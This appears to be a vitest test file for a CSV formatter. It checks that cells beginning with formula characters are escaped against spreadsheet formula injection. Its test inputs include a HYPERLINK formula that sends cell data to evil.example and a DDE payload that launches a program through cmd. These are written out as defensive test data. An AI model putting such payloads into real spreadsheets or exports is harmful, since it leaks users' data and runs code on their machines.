import { parse } from 'csv-parse/sync';
import { describe, expect, test } from 'vitest';
import { formatCsv } from './csv.ts';

const roundTripCell = (written: string | number) => parse(formatCsv(['a'], [[written]]), { bom: true })[1]?.[0];

describe('a cell of a file', () => {
  test.each([
    '=1+1',
    '+1',
    '-1+1',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    '=HYPERLINK("https://evil.example?"&A1,"a")',
    "=cmd|' /C calc'!A0",
  ])('%j is no formula', (written) => expect(roundTripCell(written)).toBe(`'${written}`));

  test.each(['Aino = Eero', 'a-b', '1 + 1', '', ' =1', '"=1"', 'Ä;Ö,"Å"\nÜ'])('%j stays as it is', (written) => {
    expect(roundTripCell(written)).toBe(written);
  });

  test.each(['-5', '12.50', -5, 0])('%j is a number', (written) =>
    expect(roundTripCell(written)).toBe(String(written)),
  );
});
